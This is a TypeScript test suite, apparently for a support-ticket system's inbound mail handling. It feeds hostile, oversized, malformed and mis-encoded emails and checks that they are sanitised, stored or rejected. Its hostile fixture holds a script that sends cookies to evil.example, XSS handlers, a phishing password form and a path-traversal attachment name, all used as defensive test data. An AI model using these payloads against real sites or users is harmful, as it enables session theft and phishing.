import { readFileSync } from 'node:fs';
import { FileStorage } from '../../src/files/file-storage';
import { inboundWorld } from './inbound-world';

const MESSAGE_LIMIT = 300_000;
const ATTACHMENT_LIMIT = 20_000;

const crlf = (lines: string[]) => lines.join('\r\n');
const base64Lines = (bytes: Buffer) => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');

/**
 * Mail written to do harm, or just broken, read from the real mailbox: each message is kept as a
 * row (with its raw bytes when it was read), what reaches a ticket is sanitised, and nothing
 * stops the messages behind it.
 */
describe('hostile and broken mail', () => {
  let world: Awaited<ReturnType<typeof inboundWorld>>;
  const row = async (messageId: string) =>
    (await world.sut.db.query('SELECT * FROM inbound_messages WHERE message_id = ?', [messageId]))[0] as Record<string, unknown>;
  const messageOf = async (messageId: string) =>
    (await world.sut.db.query('SELECT id, ticket_id, body_text, body_html FROM ticket_messages WHERE message_id = ?', [messageId]))[0] as {
      id: number;
      ticket_id: number;
      body_text: string;
      body_html: string | null;
    };

  const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
  const huge = Buffer.alloc(100_000, 0x41);
  const hostile = crlf([
    'From: Mallory <mallory@evil.example>',
    'To: support@backhaul.test',
    'Subject: Your invoice',
    'Message-ID: <hostile@evil.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="outer"',
    '',
    '--outer',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Please see the attached invoice.',
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p onclick="steal()">Please see <a href="javascript:alert(document.cookie)">the invoice</a>.</p>' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src="x" onerror="alert(1)">' +
      '<img src="https://evil.example/track.gif"><iframe src="https://evil.example"></iframe>',
    '--alt--',
    '--outer',
    'Content-Type: application/octet-stream; name="invoice.pdf"',
    'Content-Disposition: attachment; filename="invoice.pdf"',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(pdf),
    '--outer',
    'Content-Type: text/html; name="login.html"',
    'Content-Disposition: attachment; filename="../../login.html"',
    '',
    '<form action="https://evil.example"><input name="password"></form>',
    '--outer',
    'Content-Type: application/zip; name="huge.zip"',
    'Content-Disposition: attachment; filename="huge.zip"',
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(huge),
    '--outer--',
    '',
  ]);
  const oversized = crlf([
    'From: Bulk <bulk@sender.example>',
    'To: support@backhaul.test',
    'Subject: Scans of everything',
    'Message-ID: <oversized@sender.example>',
    'Content-Type: text/plain',
    '',
    'x'.repeat(MESSAGE_LIMIT + 1000),
    '',
  ]);
  const malformed = crlf([
    'From: Broken Client <broken@client.example>',
    'Subject: =?utf-8?B?broken base64 ==?=',
    'Message-ID: <malformed@client.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="never-closed"',
    'Content-Transfer-Encoding: quoted-printable',
    'this line is not a header',
    '',
    'preamble =ZZ not quoted-printable',
    '--never-closed',
    'Content-Type: text/plain; charset="no-such-charset"',
    'Content-Transfer-Encoding: base64',
    '',
    '!!!! not base64 at all !!!!',
    '--never-closed',
    'Content-Type',
    '',
    '\u0001\u0002\u007fbinary junk',
  ]);
  const latin = Buffer.concat([
    Buffer.from(
      crlf([
        'From: =?ISO-8859-1?Q?Ren=E9e?= <renee@example.fr>',
        'To: support@backhaul.test',
        'Subject: =?ISO-8859-1?Q?Facture_d=E9j=E0_pay=E9e?=',
        'Message-ID: <latin@example.fr>',
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=koi8-r',
        'Content-Transfer-Encoding: 8bit',
        '',
        '',
      ]),
    ),
    // "Привет, счёт" in KOI8-R.
    Buffer.from([0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4, 0x2c, 0x20, 0xd3, 0xde, 0xa3, 0xd4, 0x0d, 0x0a]),
  ]);
  // (No NUL bytes: IMAP cannot carry them, and Dovecot replaces them on delivery.)
  const anonymous = Buffer.from([0x01, 0xff, 0xfe, 0x0d, 0x0a, 0x0d, 0x0a, 0x13, 0x37, 0x02]);

  beforeAll(async () => {
    world = await inboundWorld({
      INBOUND_MAIL_MAX_MESSAGE_BYTES: String(MESSAGE_LIMIT),
      INBOUND_MAIL_MAX_ATTACHMENT_BYTES: String(ATTACHMENT_LIMIT),
    });
    for (const raw of [hostile, oversized, malformed, latin]) await world.mailbox.append(raw);
    await world.mailbox.append(anonymous);
  }, 60_000);

  afterAll(async () => {
    await world?.close();
  });

  it('reads every message in one poll, rejecting what cannot be filed rather than stopping', async () => {
    expect(await world.poll()).toMatchObject({ fetched: 5, filed: 3, rejected: 2, duplicates: 0 });
    expect(await world.mailbox.messages()).toEqual([1, 2, 3, 4, 5].map((uid) => ({ uid, seen: true })));
  });

  it('keeps only sanitised HTML, with the plain text beside it', async () => {
    const message = await messageOf('<hostile@evil.example>');
    expect(message.body_text).toContain('Please see the attached invoice.');
    const html = message.body_html as string;
    expect(html).toContain('Please see');
    expect(html).not.toMatch(/<script|onerror|onclick|javascript:|<iframe|evil\.example|<img/i);
  });

  it('stores attachments under safe names and types, and drops the one over the limit with a note', async () => {
    const message = await messageOf('<hostile@evil.example>');
    const attachments = await world.sut.db.query(
      'SELECT name, mime_type, size_bytes, storage_key FROM ticket_attachments WHERE message_id = ? ORDER BY id',
      [message.id],
    );
    expect(attachments.map((a: Record<string, unknown>) => [a.name, a.mime_type, Number(a.size_bytes)])).toEqual([
      ['invoice.pdf', 'application/pdf', pdf.length],
      // A page a browser would render is kept as bytes to download, never as HTML.
      ['login.html', 'application/octet-stream', expect.any(Number)],
    ]);
    const storage = world.sut.app.get(FileStorage);
    expect(readFileSync(storage.pathOf(attachments[0].storage_key))).toEqual(pdf);
    expect(message.body_text).toMatch(/The attachment "huge\.zip" \(0\.1 MB\) was not kept: it is over the 0\.0 MB limit/);
    expect(await row('<hostile@evil.example>')).toMatchObject({ status: 'processed', notes: expect.stringContaining('huge.zip') });
  });

  it('rejects a message over the size limit without reading it, keeping its headers and the reason', async () => {
    expect(await row('<oversized@sender.example>')).toMatchObject({
      status: 'rejected',
      from_address: 'bulk@sender.example',
      subject: 'Scans of everything',
      raw_storage_key: null,
      ticket_id: null,
      reason: expect.stringMatching(/over the 0\.3 MB limit; it was not read/),
    });
  });

  it('files malformed MIME as well as it can be read, keeping the raw bytes exactly', async () => {
    const stored = await row('<malformed@client.example>');
    expect(stored).toMatchObject({ status: 'processed', from_address: 'broken@client.example' });
    const raw = readFileSync(world.sut.app.get(FileStorage).pathOf(stored.raw_storage_key as string));
    expect(raw.toString('latin1')).toBe(malformed.replace(/\r?\n/g, '\r\n'));
    expect(await messageOf('<malformed@client.example>')).toMatchObject({ ticket_id: stored.ticket_id });
  });

  it('decodes text in the charset the message declares', async () => {
    expect((await messageOf('<latin@example.fr>')).body_text).toContain('Привет, счёт');
    expect(await row('<latin@example.fr>')).toMatchObject({ subject: 'Facture déjà payée', from_address: 'renee@example.fr' });
    const [ticket] = await world.sut.db.query('SELECT subject FROM tickets WHERE id = ?', [(await row('<latin@example.fr>')).ticket_id]);
    expect(ticket.subject).toBe('Facture déjà payée');
  });

  it('rejects bytes with no sender, keeping them', async () => {
    const [stored] = await world.sut.db.query("SELECT * FROM inbound_messages WHERE message_id IS NULL AND status = 'rejected'");
    expect(stored).toMatchObject({ reason: 'The message has no sender address to answer.', ticket_id: null });
    expect(stored.dedupe_key).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(readFileSync(world.sut.app.get(FileStorage).pathOf(stored.raw_storage_key))).toEqual(anonymous);
  });
});
